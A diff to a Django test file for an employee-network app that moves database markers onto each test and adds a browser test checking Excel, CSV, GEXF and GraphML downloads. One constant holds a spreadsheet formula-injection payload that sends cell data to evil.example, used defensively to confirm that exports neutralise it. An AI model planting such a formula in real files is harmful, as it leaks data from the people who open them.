@@ -17,8 +17,6 @@ from weakties.people.models import Person, Tie
 from weakties.referrals.services.referrals import referral_apply
 from weakties.referrals.services.vacancies import vacancy_create
 
-pytestmark = pytest.mark.django_db
-
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 PHONE = "+31 6 12345678"
 
@@ -56,6 +54,7 @@ def _globex() -> Employee:
     )
 
 
+@pytest.mark.django_db
 def test_colleagues_list_downloads_with_the_hostile_name_neutralised(client):
     acme()
     Employee.objects.filter(email="tom.jansen@acme.nl").update(first_name=HOSTILE)
@@ -76,6 +75,7 @@ def test_colleagues_list_downloads_with_the_hostile_name_neutralised(client):
     assert client.get(reverse("employees_export", args=["pdf"])).status_code == 404
 
 
+@pytest.mark.django_db
 def test_downloads_need_a_login(client):
     acme(networks=False)
     for name in ("employees_export", "introductions_export", "referrals_export"):
@@ -83,6 +83,7 @@ def test_downloads_need_a_login(client):
         assert response.status_code == 302 and "/login/" in response["Location"]
 
 
+@pytest.mark.django_db
 def test_colleagues_list_in_dutch(client):
     acme(networks=False)
     login(client, "tom.jansen@acme.nl")
@@ -91,6 +92,7 @@ def test_colleagues_list_in_dutch(client):
     assert rows[0][0] == "Naam" and rows[0][1] == "Afdeling"
 
 
+@pytest.mark.django_db
 def test_own_network_with_contact_details_only_for_the_owner(client):
     acme()
     jan = employee("jan.vandenberg@acme.nl")
@@ -109,6 +111,7 @@ def test_own_network_with_contact_details_only_for_the_owner(client):
     assert PHONE in _flat(x)
 
 
+@pytest.mark.django_db
 def test_admin_gets_the_network_without_contact_details_and_others_get_nothing(client):
     acme()
     jan = employee("jan.vandenberg@acme.nl")
@@ -128,6 +131,7 @@ def test_admin_gets_the_network_without_contact_details_and_others_get_nothing(c
     assert client.get(reverse("network_export", args=[gina.pk, "csv"])).status_code == 404
 
 
+@pytest.mark.django_db
 def test_introduction_requests_of_each_side(client):
     acme()
     jan, tom = employee("jan.vandenberg@acme.nl"), employee("tom.jansen@acme.nl")
@@ -151,6 +155,7 @@ def test_introduction_requests_of_each_side(client):
     assert _csv(client.get(reverse("introductions_export", args=["csv"])))[1:] == []
 
 
+@pytest.mark.django_db
 def test_referrals_board_for_recruiters_only(client):
     org = acme(networks=False)
     v = vacancy_create(organisation=org, title="Planner", location="Utrecht")
@@ -170,6 +175,7 @@ def test_referrals_board_for_recruiters_only(client):
     assert client.get(reverse("referrals_export", args=["csv"])).status_code == 403
 
 
+@pytest.mark.django_db
 def test_pages_link_their_downloads_and_the_links_work(client):
     org = acme()
     vacancy_create(organisation=org, title="Planner")
@@ -188,3 +194,82 @@ def test_pages_link_their_downloads_and_the_links_work(client):
     tom = employee("tom.jansen@acme.nl")
     html = client.get(reverse("employee", args=[tom.pk])).content.decode()
     assert reverse("insights:ego_export", args=[tom.pk, "gexf"]) not in html
+
+
+# ---------------------------------------------------------------- in a real browser
+
+from tests.browser.conftest import browser, cli, live_server_url, server_env  # noqa: E402, F401
+
+
+@pytest.fixture(scope="module")
+def demo_server(live_server_url, server_env):  # noqa: F811
+    import json
+
+    logins = json.loads(cli(server_env, "demo", "--no-serve", "--employees", "15", "--json"))
+    cli(server_env, "analyze", "--org", logins["organisation"], "--json")
+    return live_server_url, logins
+
+
+def _sign_in(page, url, login):
+    page.goto(f"{url}/login/")
+    page.fill("input[name=username]", login["username"])
+    page.fill("input[name=password]", login["password"])
+    page.click("button[type=submit]")
+    page.wait_for_load_state()
+
+
+def _download(page, selector: str) -> tuple[str, bytes]:
+    with page.expect_download() as info:
+        page.click(selector)
+    d = info.value
+    return d.suggested_filename, open(d.path(), "rb").read()
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("locale", ["nl-NL", "en-GB"])
+def test_a_person_downloads_tables_and_networks(browser, demo_server, locale):  # noqa: F811
+    import networkx as nx
+
+    url, logins = demo_server
+    someone = next(x for x in logins["logins"] if x["role"] != "admin")
+    admin = next(x for x in logins["logins"] if x["role"] == "admin")
+    lang = locale[:2]
+    context = browser.new_context(locale=locale, accept_downloads=True)
+    page = context.new_page()
+    _sign_in(page, url, someone)
+    page.goto(f"{url}/employees/")
+    for width in (1280, 390):
+        page.set_viewport_size({"width": width, "height": 900})
+        page.screenshot(path=f"/tmp/exports-colleagues-{lang}-{width}.png", full_page=True)
+    name, data = _download(page, "p.downloads a:text('Excel')")
+    assert name.endswith(".xlsx") and name.startswith(
+        "collegas-" if lang == "nl" else "colleagues-"
+    )
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert sheet["A1"].value == ("Naam" if lang == "nl" else "Name")
+    shown = page.locator("table.list tbody tr").count()
+    assert sheet.max_row - 1 >= shown > 1
+    # One's own network: the table (with one's contacts' details) and the Gephi file.
+    page.click("#nav-me summary")
+    page.click("#nav-network")
+    page.set_viewport_size({"width": 1280, "height": 900})
+    page.locator("p.downloads").last.scroll_into_view_if_needed()
+    page.screenshot(path=f"/tmp/exports-network-{lang}-1280.png")
+    name, data = _download(page, "p.downloads a:text('CSV')")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert ("E-mail" if lang == "nl" else "Email") in rows[0]
+    name, data = _download(page, "p.downloads a:text('GEXF')")
+    g = nx.read_gexf(io.BytesIO(data))
+    assert g.number_of_nodes() == len(rows) and g.degree("ego") == len(rows) - 1
+    context.close()
+    # An administrator: the internal network for Gephi from the insights page.
+    context = browser.new_context(locale=locale, accept_downloads=True)
+    page = context.new_page()
+    _sign_in(page, url, admin)
+    page.goto(f"{url}/insights/")
+    name, data = _download(page, "#brokers p.downloads a:text('GraphML')")
+    g = nx.read_graphml(io.BytesIO(data))
+    assert g.number_of_nodes() == 15 and g.number_of_edges() > 0
+    name, data = _download(page, "#brokers p.downloads a:text('CSV')")
+    assert len(data.decode("utf-8-sig").splitlines()) == 16
+    context.close()
